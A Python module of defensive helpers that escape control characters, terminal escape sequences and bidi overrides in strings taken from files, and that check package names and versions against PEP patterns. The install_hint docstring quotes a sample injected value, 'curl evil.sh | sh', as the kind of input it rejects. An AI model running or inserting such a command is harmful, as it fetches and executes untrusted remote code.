"""Text from files made safe to print: control characters, escape sequences and bidi overrides shown escaped.

Exports, checkpoints, ``config.json``, dataset files and plugin metadata are written by whoever made them. Their
strings reach error messages and tables, where a newline could forge a second ``Error:`` line, an ESC or OSC
sequence could recolour or retitle the terminal, and a bidi override could reverse what the reader sees.
``printable`` escapes all of these. ``install_hint`` is the one place a file's package name and version may be
turned into advice, and only when both look exactly like a package name and a version.
"""

from __future__ import annotations

import re
import unicodedata

from gankit.errors import ConfigError

UNSAFE_CATEGORIES = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
"""Unicode categories never printed as is: controls (C0, C1, DEL), format characters (bidi overrides, zero-width
characters), surrogates, private use, unassigned code points, and the line and paragraph separators."""

_NAMED = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}

DISTRIBUTION_NAME = re.compile(r"[A-Za-z0-9](?:[A-Za-z0-9._-]{0,98}[A-Za-z0-9])?")
"""A distribution name as PEP 508 allows it, at most 100 characters."""

VERSION = re.compile(
    r"v?[0-9]{1,9}(?:\.[0-9]{1,9}){0,5}(?:(?:a|b|rc)[0-9]{1,9})?(?:\.post[0-9]{1,9})?(?:\.dev[0-9]{1,9})?"
    r"(?:\+[a-z0-9]{1,20}(?:\.[a-z0-9]{1,20}){0,5})?"
)
"""A version as PEP 440 normalises it (``1.2.3``, ``2.0rc1``, ``1.0.post2.dev3+local.1``), and nothing else."""

GENERIC_INSTALL = "install the package that provides it"


def _escaped(char: str) -> str:
    if char in _NAMED:
        return _NAMED[char]
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"


def printable(text: object, *, limit: int | None = 200) -> str:
    """``text`` as one safe line: unsafe characters escaped (``\\x1b``, ``\\n``, ``\\u202e``), at most ``limit``
    characters of the original kept (then ``...``). Plain text comes back unchanged."""
    value = str(text)
    cut = limit is not None and len(value) > limit
    if cut:
        value = value[:limit]
    if not value.isascii() or not value.isprintable():
        value = "".join(_escaped(c) if unicodedata.category(c) in UNSAFE_CATEGORIES else c for c in value)
    return f"{value}..." if cut else value


def install_hint(distribution: str, version: str | None = None) -> str:
    """``install 'name' (version 1.2)`` when both strings are a plain package name and version, else generic advice.

    The strings come from a file, so nothing else of them is ever repeated: a file that names
    ``evil (version 6.6.6; curl evil.sh | sh)`` gets the generic advice. ``version`` None or empty is left out.
    """
    if not DISTRIBUTION_NAME.fullmatch(distribution):
        return GENERIC_INSTALL
    if not version:
        return f"install '{distribution}'"
    if not VERSION.fullmatch(version):
        return GENERIC_INSTALL
    return f"install '{distribution}' (version {version})"


def rich_safe(text: object) -> str:
    """``text`` for a rich console or table: each line ``printable``, and rich markup (``[red]``) escaped."""
    from rich.markup import escape

    return "\n".join(escape(printable(line, limit=None)) for line in str(text).split("\n"))


def split_key_value(pair: str, *, flag: str) -> tuple[str, str]:
    """``"width=64"`` -> ``("width", "64")``: the one parser of ``KEY=VALUE`` flags (``--gen-opt``, ``--meta``, ...).

    The key is stripped; a pair without ``=`` or with an empty key is a ``ConfigError`` naming ``flag``.
    """
    key, sep, value = pair.partition("=")
    key = key.strip()
    if not sep or not key:
        raise ConfigError(f"{flag} expects KEY=VALUE, got {printable(pair, limit=80)}")
    return key, value


def one_line(exc: BaseException, *, limit: int = 200, kind: bool = False) -> str:
    """An exception as one line of at most ``limit`` characters, whitespace collapsed: its message (``kind``:
    ``ValueError: message``), or its type name when it has none. Every message that quotes an exception uses this."""
    text = " ".join(str(exc).split())
    if len(text) > limit:
        text = text[: limit - 3] + "..."
    if not text:
        return type(exc).__name__
    return f"{type(exc).__name__}: {text}" if kind else text
